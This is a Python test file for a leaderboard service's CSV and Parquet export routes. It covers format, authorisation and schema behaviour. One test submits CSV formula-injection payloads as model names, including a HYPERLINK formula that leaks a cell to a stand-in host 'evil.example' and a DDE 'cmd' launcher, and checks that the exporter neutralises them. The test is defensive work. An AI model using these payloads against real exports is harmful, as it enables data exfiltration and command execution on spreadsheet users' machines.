"""``?format=csv|parquet`` on the leaderboard routes (docs/SPEC.md sections 4 and 5)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from ranking.io.exports import MEDIA_TYPES
from service.pipeline.artifacts import load_fit
from tests.service.conftest import ADMIN, INGEST, assert_error, open_client, service_settings


@pytest.fixture(scope="module")
def client(shared_fit: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    store = tmp_path_factory.mktemp("store") / "s.sqlite"
    with open_client(service_settings(shared_fit, store_path=store)) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def user(shared_fit: Path) -> str:
    battles = load_fit(shared_fit).read_battles()
    assert battles is not None
    return str(battles["user_id"].value_counts().index[0])


def _csv(response: object) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(response.text), dtype={"model": str})  # type: ignore[attr-defined]


@pytest.mark.parametrize("method", ["bt", "elo"])
def test_aggregate_board_as_csv_is_its_json_rows(client: TestClient, method: str) -> None:
    document = client.get("/v1/leaderboard", params={"method": method}).json()
    response = client.get("/v1/leaderboard", params={"method": method, "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="leaderboard-{method}.csv"' in response.headers["content-disposition"]
    frame = _csv(response)
    ranked = frame[~frame["provisional"]] if "provisional" in frame else frame
    assert ranked["model"].tolist() == [m["model"] for m in document["models"]]
    assert ranked["rating"].tolist() == pytest.approx([m["rating"] for m in document["models"]])
    assert ranked["battles"].tolist() == [m["battles"] for m in document["models"]]


def test_aggregate_board_as_parquet(client: TestClient) -> None:
    document = client.get("/v1/leaderboard").json()
    response = client.get("/v1/leaderboard", params={"format": "parquet"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(response.content))
    assert table.column("model").to_pylist()[: len(document["models"])] == [
        m["model"] for m in document["models"]
    ]
    assert json.loads(table.schema.metadata[b"leaderboard"])["method"] == "bt"


def test_a_users_board_as_csv_needs_their_token(client: TestClient, user: str) -> None:
    path = f"/v1/users/{user}/leaderboard"
    assert_error(client.get(path, params={"format": "csv"}), 401, "token")
    assert_error(client.get(path, params={"format": "csv", "token": "wrong"}), 403, "token")
    token = client.get(f"/v1/admin/users/{user}/token", headers=ADMIN).json()["token"]
    document = client.get(path, params={"token": token}).json()
    response = client.get(path, params={"token": token, "format": "csv"})
    assert response.status_code == 200, response.text
    assert _csv(response)["model"].tolist() == [m["model"] for m in document["models"]]


def test_an_unknown_format_is_refused_naming_it(client: TestClient) -> None:
    response = client.get("/v1/leaderboard", params={"format": "xlsx"})
    assert response.status_code == 422
    assert "format" in response.text and "xlsx" in response.text


#: Model names a spreadsheet would run (issue 31), and the cells the CSV holds for them.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click me")': (
        '\'=HYPERLINK("http://evil.example/?"&A1,"click me")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
}


def test_anonymous_csv_never_holds_a_formula(shared_fit: Path, tmp_path: Path) -> None:
    settings = service_settings(
        shared_fit, store_path=tmp_path / "s.sqlite", auto_register_models=True
    )
    with open_client(settings) as client:
        known = client.get("/v1/leaderboard").json()["models"][0]["model"]
        votes = [
            {"model_a": name, "model_b": known, "winner": "model_a", "user_id": f"attacker{i}"}
            for i, name in enumerate(FORMULAS)
        ]
        answer = client.post("/v1/battles", json={"battles": votes}, headers=INGEST)
        assert answer.json()["accepted"] == len(FORMULAS), answer.text
        response = client.get("/v1/leaderboard", params={"method": "elo", "format": "csv"})
    assert response.status_code == 200, response.text
    header, *rows = list(csv.reader(io.StringIO(response.text, newline="")))
    cells = {row[header.index("model")] for row in rows}
    assert set(FORMULAS.values()) <= cells
    for row in rows:  # every cell a number, or text that no spreadsheet evaluates
        for cell in row:
            assert _is_number(cell) or cell.lstrip()[:1] not in ("=", "+", "-", "@"), row


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table_format", ["csv", "parquet"])
def test_the_file_routes_answer_what_format_answers_and_the_schema_says(
    client: TestClient, user: str, table_format: str
) -> None:
    token = client.get(f"/v1/admin/users/{user}/token", headers=ADMIN).json()["token"]
    schema = client.get("/openapi.json").json()["paths"]
    media = MEDIA_TYPES[table_format]  # type: ignore[index]
    for path, params in [
        ("/v1/leaderboard", {"method": "elo"}),
        (f"/v1/users/{user}/leaderboard", {"token": token}),
    ]:
        as_file = client.get(f"{path}.{table_format}", params=params)
        as_format = client.get(path, params={**params, "format": table_format})
        assert as_file.status_code == as_format.status_code == 200, as_file.text
        assert as_file.headers["content-type"] == as_format.headers["content-type"] == media
        assert as_file.content == as_format.content
        template = path.replace(user, "{user_id}")
        declared = schema[f"{template}.{table_format}"]["get"]["responses"]["200"]["content"]
        assert list(declared) == [media.split(";")[0]]  # the one media type it answers
        # the JSON route declares the files ?format= still answers, but not the parameter
        board = schema[template]["get"]
        assert media.split(";")[0] in board["responses"]["200"]["content"]
        assert "format" not in [p["name"] for p in board.get("parameters", [])]
    assert_error(client.get("/v1/users/someone/leaderboard.csv"), 401, "token")
    assert_error(client.get("/v1/leaderboard.csv", params={"where": "user_id=1"}), 422, "where")


def test_csv_writes_provisional_as_json_does(shared_fit: Path, tmp_path: Path) -> None:
    settings = service_settings(
        shared_fit, store_path=tmp_path / "s.sqlite", auto_register_models=True
    )
    with open_client(settings) as client:
        known = client.get("/v1/leaderboard").json()["models"][0]["model"]
        vote = {"model_a": "newcomer-1", "model_b": known, "winner": "tie", "user_id": "u-new"}
        assert (
            client.post("/v1/battles", json={"battles": [vote]}, headers=INGEST).json()["accepted"]
            == 1
        )
        document = client.get("/v1/leaderboard", params={"method": "elo"}).json()
        text = client.get("/v1/leaderboard.csv", params={"method": "elo"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    provisional = {row["model"]: row["provisional"] for row in rows}
    assert "newcomer-1" in [m["model"] for m in document["provisional"]]
    assert provisional == {
        **{m["model"]: "false" for m in document["models"]},
        **{m["model"]: "true" for m in document["provisional"]},
    }
